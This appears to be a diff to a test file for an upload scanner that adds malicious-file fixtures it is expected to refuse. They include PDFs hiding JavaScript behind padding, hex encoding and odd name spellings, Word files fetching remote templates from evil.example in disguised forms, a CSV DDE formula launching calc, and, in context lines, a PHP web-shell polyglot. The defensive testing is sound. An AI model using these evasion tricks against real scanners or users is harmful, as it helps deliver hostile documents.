@@ -50,8 +50,12 @@ def packed(size: int, times: int = 1) -> bytes:
     return data
 
 
+OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
+SCRIPT = b"1 0 << /S /Java#53cript /JS (app.alert(1)) >>"
+
+
 def object_stream_bomb() -> bytes:
-    return pdf_with_stream(packed(128 << 20), extra=b"/Type /ObjStm /N 1 /First 4 ")
+    return pdf_with_stream(packed(128 << 20), extra=OBJECTS)
 
 
 def hidden_filter_bomb() -> bytes:
@@ -69,10 +73,14 @@ def opening_pdf(action: str) -> bytes:
     return files._written(writer)
 
 
-def packed_script_pdf() -> bytes:
+def packed_script_pdf(before: bytes = b"", extra: bytes = b"") -> bytes:
     """The script is in an object stream, under another spelling."""
-    inner = b"1 0 << /S /Java#53cript /JS (app.alert(1)) >>"
-    return pdf_with_stream(zlib.compress(inner), extra=b"/Type /ObjStm /N 1 /First 4 ")
+    return pdf_with_stream(zlib.compress(before + SCRIPT), extra=OBJECTS + extra)
+
+
+def oddly_packed_script_pdf(filters: bytes) -> bytes:
+    """By hexadecimal digits, which no search for words finds."""
+    return pdf_with_stream(SCRIPT.hex().encode() + b">", filters, OBJECTS)
 
 
 def pdf_with_attachment(content: bytes) -> bytes:
@@ -148,9 +156,10 @@ def bomb_within(depth: int = 6) -> bytes:
     return content
 
 
-def external(kind: str, target: str) -> bytes:
+def external(kind: str, target: str, quote: str = '"') -> bytes:
     relation = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
     link = f'<Relationship Id="r1" Type="{relation}" Target="{target}" TargetMode="External"/>'
+    link = link.replace('"', quote)
     return files.docx(**{"word___rels__settings.xml.rels": f"<Relationships>{link}</Relationships>"})
 
 
@@ -203,6 +212,18 @@ REFUSED = {
     "a PDF with a bomb for its objects": ("a.pdf", object_stream_bomb(), "bomb"),
     "a PDF that runs a script": ("a.pdf", opening_pdf("/JavaScript"), "scripts"),
     "a PDF that runs a script in hiding": ("a.pdf", packed_script_pdf(), "scripts"),
+    "a PDF that runs a script behind much else": ("a.pdf", packed_script_pdf(b" " * (5 << 20)), "scripts"),
+    "a PDF that runs a script far from its name": (
+        "a.pdf", packed_script_pdf(extra=b" " * 5000), "scripts",
+    ),
+    "a PDF that runs a script behind a blank": (
+        "a.pdf", packed_script_pdf().replace(b"\nstream\n", b"\nstream \n"), "scripts",
+    ),
+    "a PDF that runs a script in digits": ("a.pdf", oddly_packed_script_pdf(b"/ASCIIHexDecode"), "scripts"),
+    "a PDF that runs a script in digits, unsaid": ("a.pdf", oddly_packed_script_pdf(b"5 0 R"), "scripts"),
+    "a PDF that runs a script as differences": (
+        "a.pdf", packed_script_pdf(extra=b"/DecodeParms << /Predictor 12 /Columns 9 >> "), "scripts",
+    ),
     "a PDF that starts a program": ("a.pdf", opening_pdf("/Launch"), "scripts"),
     "a PDF with a program attached": ("a.pdf", pdf_with_attachment(b"MZ" + bytes(500)), "inside"),
     "a PDF with an archive attached": ("a.pdf", pdf_with_attachment(files.archive({"a": "MZ"})), "inside"),
@@ -242,6 +263,15 @@ REFUSED = {
     "Word with controls": ("a.docx", repeated(b"x", "word/activeX/activeX1.xml"), "macros"),
     "Word with a template from elsewhere": (
         "a.docx", external("attachedTemplate", "https://evil.example/a.dotm"), "macros",
+    ),
+    "Word with a template from another machine": (
+        "a.docx", external("attachedTemplate", r"\\evil.example\a.dotm"), "macros",
+    ),
+    "Word with a template in other quotes": (
+        "a.docx", external("attachedTemplate", "https://evil.example/a.dotm", "'"), "macros",
+    ),
+    "Word with a template in other letters": (
+        "a.docx", external("attachedTemplate", "&#104;&#x54;tps://evil.example/a.dotm"), "macros",
     ),
     "Word with an object from elsewhere": (
         "a.docx", external("oleObject", "mhtml:https://evil.example/a.html!x-usc:"), "macros",
@@ -304,6 +334,9 @@ REFUSED = {
     "a picture and a page": ("a.png", files.png() + b"<?php system($_GET[0]); ?>", "polyglot"),
     # The rest
     "a table that starts a program": ("a.csv", b"goats,=cmd|' /C calc'!A0\n", "macros"),
+    "a large table that starts a program": (
+        "a.csv", b"goats,12\n" * ((1 << 20) // 9) + b"1,=cmd|' /C calc'!A0\n", "macros",
+    ),
     "bytes": ("a.txt", bytes(range(256)) * 40, "unknown"),
     "a film": ("a.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 100, "unknown"),
 }  # fmt: skip
